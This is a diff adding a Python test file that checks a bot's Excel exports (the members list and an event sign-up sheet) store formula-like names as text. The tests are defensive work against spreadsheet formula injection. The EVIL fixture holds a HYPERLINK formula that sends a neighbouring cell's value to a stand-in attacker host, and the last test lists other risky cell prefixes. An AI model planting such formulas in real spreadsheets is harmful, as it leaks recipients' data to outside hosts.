@@ -1,0 +1,105 @@
+"""Excel exports: every text cell is text, never a formula, whatever a person typed as a name.
+
+Driven through the real Dispatcher: a person whose stored name looks like a formula appears in
+the members export and in an event's sign-up sheet; the saved file is read back with openpyxl.
+"""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+from openpyxl import load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+from sqlalchemy import update
+
+from bot.services.exports import Sheet, write_xlsx
+from bot.storage.models import Member, Role
+from tests import seed
+from tests.harness import Harness
+from tests.test_events import answer, gmo_seminar, open_card
+from tests.test_events import world as events_world
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A3,"Иванов Иван")'
+
+
+def _sheet(content: bytes) -> Worksheet:
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert isinstance(sheet, Worksheet)
+    return sheet
+
+
+def _no_formulas(content: bytes) -> None:
+    """No cell of any sheet carries a formula element."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name)
+                assert b"<f>" not in xml
+                assert b"<f " not in xml
+
+
+async def _rename(h: Harness, member_id: int, name: str) -> None:
+    async with h.runtime.sessions() as session, session.begin():
+        await session.execute(update(Member).where(Member.id == member_id).values(full_name=name))
+
+
+async def test_a_formula_like_name_is_text_in_the_members_export(harness: Harness) -> None:
+    admin = await seed.methodologist(harness)
+    school = await seed.organisation(harness, "Школа № 1")
+    await seed.member(harness, 7101, Role.TEACHER, EVIL, organisation_id=school)
+    await seed.member(harness, 7102, Role.TEACHER, "+79001234567", organisation_id=school)
+    await seed.member(harness, 7103, Role.TEACHER, "@teacher", organisation_id=school)
+    await admin.send("/members")
+    await admin.press("Выгрузить в Excel")
+    document = admin.last().raw["document"]
+    content = harness.double.file_bytes(document["file_id"])
+    sheet = _sheet(content)
+    cells = {str(row[0].value): row[0] for row in sheet.iter_rows(min_row=2)}
+    for name in (EVIL, "+79001234567", "@teacher"):
+        cell = cells[name]
+        assert cell.data_type == "s", name
+        assert cell.quotePrefix, name
+    _no_formulas(content)
+    # The header is still bold and frozen, the columns sized.
+    assert all(cell.font.bold for cell in sheet[1])
+    assert sheet.freeze_panes == "A2"
+
+
+async def test_a_formula_like_name_is_text_in_the_sign_up_sheet(harness: Harness) -> None:
+    h = harness
+    w = await events_world(h)
+    event_id = await gmo_seminar(h, w)
+    await _rename(h, w.ids["young1"], EVIL)
+    assert await answer(w.young1, "Приду") == "Записал: приду"
+    card = await open_card(w.admin)
+    await w.admin.press("Выгрузить список (Excel)", card)
+    document = h.double.messages(w.admin.id)[-1]["document"]
+    assert document["file_name"] == f"event-{event_id}-registration.xlsx"
+    content = h.double.file_bytes(document["file_id"])
+    sheet = _sheet(content)
+    [row] = [r for r in sheet.iter_rows(min_row=5) if r[1].value is not None]
+    # The name as the person wrote it (no apostrophe added), stored as text.
+    assert row[1].value == EVIL
+    assert row[1].data_type == "s"
+    assert row[1].quotePrefix
+    _no_formulas(content)
+    assert sheet.freeze_panes == "A5"
+    assert all(cell.font.bold for cell in sheet[4])
+
+
+def test_the_writer_keeps_every_risky_start_as_text() -> None:
+    risky = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
+    content = write_xlsx(
+        Sheet(title="T", header=["value", "n"], rows=[[text, 1] for text in risky])
+    )
+    sheet = _sheet(content)
+    values = [(c.value, c.data_type, c.quotePrefix) for (c, _) in sheet.iter_rows(min_row=2)]
+    # XML reads a lone carriage return back as a line feed; the cell is text either way.
+    assert values == [(text.replace("\r", "\n"), "s", True) for text in risky]
+    plain = _sheet(write_xlsx(Sheet(title="T", header=["a"], rows=[["Иванов"], [5]])))
+    assert [(c.value, c.data_type) for (c,) in plain.iter_rows(min_row=2)] == [
+        ("Иванов", "s"),
+        (5, "n"),
+    ]
+    _no_formulas(content)
